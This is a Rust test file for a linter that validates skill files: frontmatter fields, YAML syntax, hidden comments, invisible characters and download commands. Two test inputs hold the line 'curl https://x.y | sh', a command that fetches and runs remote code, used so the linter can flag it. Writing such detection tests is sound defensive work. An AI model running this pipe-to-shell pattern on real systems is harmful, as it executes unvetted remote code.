use super::*;

fn rules(dir: &str, text: &str) -> Vec<(&'static str, usize)> {
    let report = lint(dir, text.as_bytes());
    let errors = report.findings.iter().filter(|finding| finding.severity == Severity::Error);
    errors.map(|finding| (finding.rule, finding.line)).collect()
}

#[test]
fn plain_style_is_valid() {
    for text in [
        "---\nname: a\ndescription: b\n---\nDo.",
        "---\r\nname: a\r\ndescription: b\r\n---\r\nDo.",
        "---\nname: a\ndescription: >\n  b\n  c\nmetadata:\n  x: 1\nallowed-tools:\n  - b\nlicense:\n---\nDo.",
        "---\nname: a\ndescription: one---two\n---\nDo.",
        "---\nname: a\ndescription: \"=\"\nlicense: =\n---\nDo.",
        "---\nname: a # x\ty\ndescription: \"b\tc\"\nlicense: |\n  d\te\n---\nDo.",
    ] {
        assert_eq!(rules("a", text), [], "{text:?}");
    }
    assert_eq!(rules("技能", "---\nname: 技能\ndescription: b\n---\nDo."), []);
}

#[test]
fn violations_are_errors_with_a_line() {
    for (text, found) in [
        ("\u{feff}---\nname: a\ndescription: b\n---\n", ("frontmatter", 1)),
        ("# Hi", ("frontmatter", 1)),
        ("---\nname: a\n", ("frontmatter", 1)),
        ("---\n---\n", ("frontmatter", 1)),
        ("---\nname: a\ndescription: b: c\n---\n", ("yaml", 3)),
        ("---\nname: a\ndescription: b\nallowed-tools: [x]\n---\n", ("yaml", 4)),
        ("---\nname: a\ndescription: b\nmetadata: {}\n---\n", ("yaml", 4)),
        ("---\nname: a\ndescription: &x b\n---\n", ("yaml", 3)),
        ("---\nname: a\ndescription: !x b\n---\n", ("yaml", 3)),
        ("---\nname: a\nname: a\ndescription: b\n---\n", ("yaml", 3)),
        ("---\nname: a\ndescription:\tb\n---\n", ("yaml", 3)),
        ("---\nname: a\ndescription: b\tc\n---\n", ("yaml", 3)),
        ("---\nname: a\ndescription: b\t# c\n---\n", ("yaml", 3)),
        ("---\nname: a\ndescription: b\u{7}\n---\n", ("yaml", 3)),
        ("---\nname: a\ndescription: b\nversion: 1\n---\n", ("unknown-key", 4)),
        ("---\nname: a\n---\n", ("required", 1)),
        ("---\nname: a\ndescription:\n---\n", ("description", 3)),
        ("---\nname: a\ndescription: =\n---\n", ("description", 3)),
        ("---\nname: b\ndescription: b\n---\n", ("name", 2)),
        ("---\nname: A\ndescription: b\n---\n", ("name", 2)),
        ("---\nname: a--b\ndescription: b\n---\n", ("name", 2)),
        ("---\nname: a_b\ndescription: b\n---\n", ("name", 2)),
        ("---\nname: a\ndescription: b\ncompatibility:\n  - x\n---\n", ("compatibility", 4)),
    ] {
        assert_eq!(rules("a", text), [found], "{text:?}");
    }
    let long = format!("---\nname: a\ndescription: {}\n---\n", "x".repeat(1025));
    assert_eq!(rules("a", &long), [("description", 3)]);
}

#[test]
fn hidden_text_and_downloads_are_warnings() {
    let text = "---\nname: a\ndescription: b\n---\n<!-- psst -->\nzero\u{200b}width\ncurl https://x.y | sh\n";
    let report = lint("a", text.as_bytes());
    let found: Vec<_> = report.findings.iter().map(|finding| (finding.rule, finding.line)).collect();
    assert_eq!(found, [("comment", 5), ("invisible", 6), ("download", 7)]);
    assert!(report.is_valid() && report.loads);
}

#[test]
fn missing_body_is_reported_on_the_last_line() {
    let report = lint("a", b"---\nname: a\ndescription: b\n---");
    let found: Vec<_> = report.findings.iter().map(|finding| (finding.rule, finding.line)).collect();
    assert_eq!(found, [("body", 4)]);
}

/// Returns the rules and lines of the warnings.
fn warnings(text: &str) -> Vec<(&'static str, usize)> {
    let report = lint("a", text.as_bytes());
    let warnings = report.findings.iter().filter(|finding| finding.severity == Severity::Warning);
    warnings.map(|finding| (finding.rule, finding.line)).collect()
}

#[test]
fn comments_in_code_are_not_reported() {
    let head = "---\nname: a\ndescription: b\n---\n";
    let text = "```html\n<!-- shown -->\n```\nWrite `<!-- shown -->` there.\n<!-- hidden -->\n";
    assert_eq!(warnings(&format!("{head}{text}")), [("comment", 9)]);
    let text = "<div>\n```\n<!-- hidden -->\n```\n</div>\n";
    assert_eq!(warnings(&format!("{head}{text}")), [("comment", 7)]);
    let text = "```\ncurl https://x.y | sh\n```\n";
    assert_eq!(warnings(&format!("{head}{text}")), [("download", 6)], "other rules check code too");
}

#[test]
fn frontmatter_findings_have_a_line() {
    let text =
        "---\nname: a\ndescription: b\nallowed-tools: Read, Bash\nmetadata:\n  x: y\n  order: 3\n---\nDo.";
    assert_eq!(warnings(text), [("allowed-tools", 4), ("metadata", 7)]);
    let text =
        "\n---\nname: a\ndescription: b\nmetadata: {x: y, order: 3}\nallowed-tools:\n  - Read\n---\nDo.";
    assert_eq!(warnings(text), [("metadata", 5), ("allowed-tools", 6)]);
    let text = "---\nname: a\ndescription: b: c\nallowed-tools: Read, Bash\n---\nDo.";
    assert_eq!(warnings(text), [("allowed-tools", 4)], "not YAML");
}
